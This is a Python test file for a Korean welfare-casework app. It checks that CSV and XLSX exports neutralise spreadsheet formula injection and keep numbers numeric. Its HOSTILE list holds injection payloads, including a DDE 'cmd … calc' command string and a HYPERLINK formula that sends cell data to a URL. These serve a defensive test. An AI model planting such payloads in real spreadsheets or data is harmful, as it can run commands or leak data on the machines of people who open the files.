"""Formula injection: hostile text that got into the database (an
ingested id, a region name, a reason, a free-text column, an account name) must reach no
CSV or XLSX the product writes as a live formula; numbers stay numbers."""

import csv
import io
import shutil

import openpyxl
import pandas as pd
import pytest

from blindspot.access import Scope, scope_for
from blindspot.casework import audit, exports, lists
from blindspot.db.store import Store
from blindspot.ingest import exchange
from blindspot.ingest.readers import Problem, echo
from blindspot.ingest.report import problems_frame, report_csv
from blindspot.spreadsheet import FORMULA_TRIGGERS, neutralise, neutralise_frame

T = 20243
HOSTILE = [
    '=HYPERLINK("http://x/?"&A1,"클릭")',
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
]


def _live(text: str) -> bool:
    """Would a spreadsheet read this cell text as a formula?"""
    return (
        text.lstrip(" ")[:1] in FORMULA_TRIGGERS
        and not pd.Series([text]).str.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?").iloc[0]
    )


def _csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for c in row]


def _assert_csv_safe(data: bytes, must_hold: list[str]) -> list[str]:
    cells = _csv_cells(data)
    assert not [c for c in cells if _live(c)]
    for value in must_hold:  # the hostile values are there, quoted, not dropped
        assert "'" + value in cells, value
    return cells


def _assert_xlsx_safe(data: bytes, must_hold: list[str]) -> list:
    wb = openpyxl.load_workbook(io.BytesIO(data))  # not read-only: data_type is reported
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not _live(cell.value), (ws.title, cell.coordinate, cell.value)
                values.append(cell.value)
    texts = {v.replace("\r\n", "\n").replace("\r", "\n") for v in values if isinstance(v, str)}
    for value in must_hold:  # (XML reads a CR back as LF)
        assert ("'" + value).replace("\r", "\n") in texts, value
    return values


def test_neutralise_follows_owasp_and_keeps_numbers():
    for value in HOSTILE:
        assert neutralise(value) == "'" + value and not _live(neutralise(value))
    for value in ("-3", "+1.5", "-2e3", "H1A2B3C4D", "충장동", "", None, -3, 2.5, True):
        assert neutralise(value) == value
    frame = neutralise_frame(
        pd.DataFrame({"=h": ["=1", None], "n": [-1, 2], "f": [-0.5, None], "i": pd.array([-4, None], dtype="Int64")})
    )
    assert frame.columns.tolist() == ["'=h", "n", "f", "i"]
    assert frame["'=h"].tolist()[0] == "'=1" and frame["'=h"].isna().tolist() == [False, True]
    assert frame["n"].tolist() == [-1, 2] and str(frame["n"].dtype) == "int64"
    assert str(frame["i"].dtype) == "Int64" and frame["i"].iloc[0] == -4


def test_frame_writers_keep_negative_numbers_numeric():
    frame = pd.DataFrame({"id": HOSTILE[:3], "n": [-1, -2, 3], "p": [-0.25, 0.5, -1.0]})
    back = pd.read_csv(io.BytesIO(exports.csv_bytes(frame)), encoding="utf-8-sig")
    assert back["n"].tolist() == [-1, -2, 3] and back["p"].tolist() == [-0.25, 0.5, -1.0]
    wb = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(frame, "표", {"행 수": 3, "목적": "=1+1"})))
    rows = list(wb["표"].iter_rows(min_row=2, values_only=True))
    assert [r[1] for r in rows] == [-1, -2, 3] and [r[2] for r in rows] == [-0.25, 0.5, -1.0]
    assert [r[0] for r in rows] == ["'" + v for v in HOSTILE[:3]]
    assert dict(wb["정보"].iter_rows(min_row=2, values_only=True)) == {"행 수": 3, "목적": "'=1+1"}


@pytest.fixture()
def hostile_db(modelled, tmp_path):
    """The modelled database with hostile text in ids, names, reasons and free-text columns,
    as if it had come in before any check at ingest (and a negative number)."""
    path = tmp_path / "hostile.duckdb"
    shutil.copy(modelled[0], path)
    st = Store(path)
    top = st.rows(
        "SELECT s.household_id FROM scores s WHERE s.round_id = ? AND s.sgg_code = '29110' "
        "AND s.band IN ('high', 'medium') ORDER BY s.probability DESC LIMIT 4",
        [T],
    )
    ids = [h for (h,) in top]
    st.run(
        "UPDATE households SET pseudo_id = ?, housing_type = ? WHERE household_id = ?", [HOSTILE[0], HOSTILE[3], ids[0]]
    )
    st.run("UPDATE households SET head_age = -5 WHERE household_id = ?", [ids[3]])
    st.run("UPDATE households SET pseudo_id = ? WHERE household_id = ?", [HOSTILE[1], ids[1]])
    st.run("UPDATE scores SET reason_1 = ? WHERE round_id = ? AND household_id = ?", [HOSTILE[2], T, ids[2]])
    emd = st.scalar("SELECT emd_code FROM households WHERE household_id = ?", [ids[2]])
    st.run("UPDATE regions SET name = ?, full_name = ? WHERE code = ?", [HOSTILE[4], HOSTILE[5], emd])
    hid, sgg, emd0 = st.rows(
        "SELECT household_id, sgg_code, emd_code FROM households WHERE household_id = ?", [ids[0]]
    )[0]
    st.run("DELETE FROM visits WHERE round_id = ? AND household_id = ?", [T, hid])
    st.run(
        "INSERT INTO visits VALUES (?, ?, ?, ?, 'local', 'supported', ?, now()::TIMESTAMP, ?)",
        [T, hid, sgg, emd0, HOSTILE[9], HOSTILE[6]],
    )
    st.checkpoint()
    yield st
    st.close()


def test_risk_list_exports_have_no_live_formula(hostile_db):
    analyst = scope_for("analyst", HOSTILE[7])  # the account name is echoed in the 정보 sheet
    filters = lists.ListFilters(T, area="29110")
    f = exports.export_risk_list(hostile_db, analyst, filters, "점검", "csv")
    _assert_csv_safe(f.data, [HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[4]])
    back = pd.read_csv(io.BytesIO(f.data), encoding="utf-8-sig")
    assert pd.api.types.is_float_dtype(back["위기 확률"]) and pd.api.types.is_integer_dtype(back["순위"])
    x = exports.export_risk_list(hostile_db, analyst, filters, "점검", "xlsx")
    values = _assert_xlsx_safe(x.data, [HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[4]])
    assert "'" + HOSTILE[7] + " (분석가)" in values


def test_summary_exports_have_no_live_formula(hostile_db):
    filters = lists.ListFilters(T, area="29110")
    for fmt, check in (("csv", _assert_csv_safe), ("xlsx", _assert_xlsx_safe)):
        f = exports.export_summary(hostile_db, scope_for("presenter", "pre"), filters, "emd", fmt=fmt)
        check(f.data, [HOSTILE[5]])


def test_audit_export_has_no_live_formula(hostile_db):
    hostile_user = scope_for("analyst", HOSTILE[8])
    audit.record(hostile_user, "view_list", {"round": T, "area": "=1+1"}, 1, HOSTILE[3], detail=HOSTILE[2])
    f = exports.export_audit(scope_for("admin", "adm"))
    _assert_csv_safe(f.data, [HOSTILE[8], HOSTILE[3], HOSTILE[2]])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_round_files_have_no_live_formula(hostile_db, tmp_path, fmt):
    out = exchange.export_round(hostile_db, Scope.district(["29110"]), "2024-R3", tmp_path / fmt, fmt)
    hh, visits = open(out["households_file"], "rb").read(), open(out["outcomes_file"], "rb").read()
    if fmt == "csv":
        cells = _assert_csv_safe(hh, [HOSTILE[0], HOSTILE[1], HOSTILE[3]])
        _assert_csv_safe(visits, [HOSTILE[0], HOSTILE[9]])
        back = pd.read_csv(io.BytesIO(hh), dtype={"pseudo_id": str})
        assert (back["head_age"] == -5).sum() == 1 and pd.api.types.is_integer_dtype(back["head_age"])
        assert "-5" in cells
    else:
        values = _assert_xlsx_safe(hh, [HOSTILE[0], HOSTILE[1], HOSTILE[3]])
        _assert_xlsx_safe(visits, [HOSTILE[0], HOSTILE[9]])
        assert -5 in values  # a number cell, not text


def test_validation_report_csv_has_no_live_formula():
    report = problems_frame(
        [Problem("h.csv", i + 2, "pseudo_id", v, "형식이 맞지 않습니다") for i, v in enumerate(HOSTILE)]
        + [
            Problem("h.csv", 20, "head_age", -3, "범위 밖입니다"),
            Problem(HOSTILE[0], None, HOSTILE[3], "x", HOSTILE[2]),
        ]
    )
    data = report_csv(report)
    # The report echoes values through readers.echo (control characters escaped); those that
    # still begin like a formula must be there, quoted.
    echoed = [echo(v) for v in HOSTILE]
    assert [e for e in echoed if _live(e)], "the case must still hold live-looking values"
    _assert_csv_safe(data, [e for e in echoed if _live(e)])
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
    assert back.loc[back["값"] == "-3", "행"].tolist() == [20]  # a number echoed stays a number


def test_streamlit_table_export_is_off():
    """st.dataframe's built-in CSV download (no neutralisation, no audit record) is disabled,
    so household rows leave the app only through blindspot.casework.exports."""
    import pathlib
    import tomllib

    from streamlit import config as st_config

    path = pathlib.Path(__file__).resolve().parents[2] / ".streamlit" / "config.toml"
    client = tomllib.loads(path.read_text(encoding="utf-8"))["client"]
    assert client["disableDataExport"] is True
    assert "client.disableDataExport" in st_config._config_options_template  # an option this Streamlit knows
